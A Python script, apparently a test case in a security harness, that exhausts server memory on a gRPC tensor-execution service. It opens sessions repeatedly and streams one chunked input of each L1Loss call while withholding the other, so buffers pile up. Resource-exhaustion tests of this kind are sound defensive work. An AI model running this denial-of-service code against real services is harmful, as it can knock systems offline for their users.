"""Calls in chunks that get one input as far ahead of the other as they may, and then nothing: what came is kept for
each, out of a budget that every session has for itself, and in memory of gRPC's that no pool counts.

Cost: 4 MiB sent for 4 MiB held. Found: half of --memory-limit for each session, beside its windows; as many sessions
as there are.
"""

import time

import wire
from attack import Attack, Target, run
from sessions import Session

SKEW = 4 << 20
ELEMENTS = 1 << 22
THE_CALL = wire.call(
    "L1Loss", [wire.tensor(name, wire.FLOAT32, [ELEMENTS], chunked=True) for name in ("self", "target")], reduction=0
)


def hold(target: Target) -> None:
    sessions = []
    while True:
        session = Session(target.connect(len(sessions)))
        sessions.append(session)
        for _ in range(40):
            whole = session.send(wire.EXECUTE_CHUNKED, wire.field(1, THE_CALL))
            for _ in range(4):
                session.send(wire.INPUT_CHUNK, wire.ids(whole, "self"), [bytes(SKEW // 4)])
            session.drop_answers()
        if len(sessions) == 10:
            time.sleep(target.seconds)


if __name__ == "__main__":
    run(Attack([hold], rss_mib=500))
